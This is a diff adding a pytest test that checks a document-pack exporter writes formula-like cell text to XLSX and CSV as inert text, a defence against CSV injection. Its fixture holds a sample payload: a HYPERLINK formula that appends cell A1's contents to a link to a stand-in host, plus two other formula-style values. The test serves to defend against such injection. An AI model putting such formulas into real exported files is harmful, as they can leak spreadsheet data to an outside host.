@@ -338,3 +338,49 @@ def test_a_failed_pack_leaves_no_zip(released: Path, tmp_path: Path) -> None:
         assert list(tmp_path.iterdir()) == []
     finally:
         git(released, "reset", "-q", "--hard", "HEAD~1")
+
+
+HOSTILE_CELL = '=HYPERLINK("http://example.invalid/?"&A1,"Open")'
+
+
+def test_text_in_the_workbooks_is_never_a_formula(tmp_path: Path) -> None:
+    """A document titled like a formula is shown as its text by a spreadsheet, from the XLSX
+    and from the CSV alike (CSV injection): nothing in the pack runs when it is opened."""
+    from smsdocs.pack import _tables
+
+    rows = [["Document", "Owner"], [HOSTILE_CELL, "@SUM(1+1)"], ["-2+3", "Sam Manager"]]
+    _tables(tmp_path, "register", "Documented information", "EX · v1 · Internal", rows, 0)
+    sheet = load_workbook(tmp_path / "register.xlsx").active
+    assert sheet is not None
+    cells = [c for line in sheet.iter_rows(min_row=2) for c in line]
+    assert [c.value for c in cells] == [HOSTILE_CELL, "@SUM(1+1)", "-2+3", "Sam Manager"]
+    assert {c.data_type for c in cells} == {"s"}
+    text = (tmp_path / "register.csv").read_text(encoding="utf-8").splitlines()
+    assert text[1] == '"\'=HYPERLINK(""http://example.invalid/?""&A1,""Open"")",\'@SUM(1+1)'
+    assert text[2] == "'-2+3,Sam Manager"
+
+    office = shutil.which("soffice")
+    if office is None:
+        return
+    for name in ("register.xlsx", "register.csv"):
+        out = tmp_path / name.replace(".", "-")
+        subprocess.run(
+            [
+                office,
+                "--headless",
+                "--convert-to",
+                "csv",
+                "--outdir",
+                str(out),
+                str(tmp_path / name),
+            ],
+            capture_output=True,
+            check=False,
+            timeout=180,
+        )
+        converted = out / "register.csv"
+        if not converted.is_file():
+            pytest.skip("LibreOffice cannot open spreadsheets here (no Calc)")
+        shown = converted.read_text(encoding="utf-8")
+        # The text as written, never the formula's result ('Open', 2).
+        assert "HYPERLINK" in shown and "SUM(1+1)" in shown and "-2+3" in shown, shown
